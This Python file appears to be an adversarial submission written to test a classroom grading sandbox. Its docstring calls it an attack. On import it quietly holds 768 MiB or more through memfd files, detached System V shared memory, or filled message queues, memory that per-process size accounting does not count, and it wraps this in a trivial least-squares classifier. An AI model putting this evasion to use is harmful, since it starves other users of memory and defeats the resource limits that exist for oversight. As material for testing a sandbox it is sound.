"""Attack: memory no process's resident size counts, in kernel memory of the run that no
page table maps: a ``memfd`` (its pages live in the file, not in the process) or a System V
shared memory segment created, filled and detached (it outlives every attachment), 768 MiB
either way (over the tiny lab's 600 MiB budget); or System V message queues (500 MiB, all a
fresh IPC namespace allows). Twenty such runs at once could take the machine's memory from
every classmate while each run's measured size stays small. The file predicts well only
when the memory was held: a refused call fails its import."""

import ctypes
import os

import numpy as np

HOW = "memfd"  # or "sysv", "queues"
HIDDEN = 768 * 2**20
_held = []


def _memfd() -> None:
    chunk = b"x" * 2**24
    for _ in range(HIDDEN // 2**27):  # files of 128 MiB: a run's files stop at 256 MiB
        fd = os.memfd_create("hidden")
        for _ in range(2**27 // len(chunk)):
            os.write(fd, chunk)
        _held.append(fd)


def _sysv() -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    segment = libc.shmget(0, ctypes.c_size_t(HIDDEN), 0o1600)  # IPC_PRIVATE, IPC_CREAT
    if segment < 0:
        raise OSError(ctypes.get_errno(), "shmget refused")
    chunk = 2**24
    for offset in range(0, HIDDEN, chunk):  # a piece at a time: never much of it mapped
        address = libc.shmat(segment, None, 0)
        if address in (None, ctypes.c_void_p(-1).value):
            raise OSError(ctypes.get_errno(), "shmat refused")
        ctypes.memset(ctypes.c_void_p(address + offset), 120, chunk)
        libc.shmdt(ctypes.c_void_p(address))  # detached: no process maps it any more


def _queues() -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    message = ctypes.create_string_buffer((1).to_bytes(8, "little") + bytes(8192))
    for _ in range(32000):  # a fresh IPC namespace's limits: 32,000 queues of 16 KiB
        queue = libc.msgget(0, 0o1600)
        if queue < 0:
            raise OSError(ctypes.get_errno(), "msgget refused")
        while libc.msgsnd(queue, message, 8192, 0o4000) == 0:  # IPC_NOWAIT: until full
            pass


{"memfd": _memfd, "sysv": _sysv, "queues": _queues}[HOW]()


def train(X, y):
    design = np.c_[X, np.ones(len(X))]
    weights, *_ = np.linalg.lstsq(design, 2 * y - 1, rcond=None)
    return weights


def predict(model, X):
    return (np.c_[X, np.ones(len(X))] @ model > 0).astype(int)
